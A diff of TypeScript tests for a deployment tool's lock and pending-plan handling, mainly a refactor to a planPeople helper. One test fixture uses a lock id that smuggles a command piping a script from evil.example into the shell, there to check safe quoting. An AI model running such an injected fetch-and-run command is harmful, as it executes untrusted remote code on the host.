@@ -2,9 +2,9 @@ import { existsSync, lstatSync, readFileSync, statSync, symlinkSync, writeFileSy
 import { join } from "node:path";
 import { planOfPending } from "../../cli/deploy/pending";
 import { stateLocked } from "../../cli/deploy/state-lock";
-import { Managed } from "../../live/managed";
 import { writeWhole } from "../../live/whole-file";
 import { testdir } from "../testdir";
+import { planPeople } from "./plans";
 
 test("the id of a lock is a word of the command that ends it, whatever is in it", () => {
   const lock = { id: "x'; curl evil.example | sh; '", who: "root@vm", since: "2026-11-22" };
@@ -16,8 +16,7 @@ test("the id of a lock is a word of the command that ends it, whatever is in it"
 test("what somebody held is told of a user whose name every object has", () => {
   const nobody = { planSha256: "", begunAt: "", devices: [], stayers: [], held: {}, schemaVersion: 1 } as const;
   const leavers = [{ name: "constructor", address: "aws_iam_user.constructor", forceDestroy: false }];
-  const now = { leavers: [], joiners: [], stayers: [], managed: Managed.of(undefined, []) };
-  const plan = planOfPending({ ...nobody, leavers }, now as unknown as Parameters<typeof planOfPending>[1]);
+  const plan = planOfPending({ ...nobody, leavers }, planPeople({}));
   expect(plan.leavers.map(({ name }) => name)).toEqual(["constructor"]);
 });
 
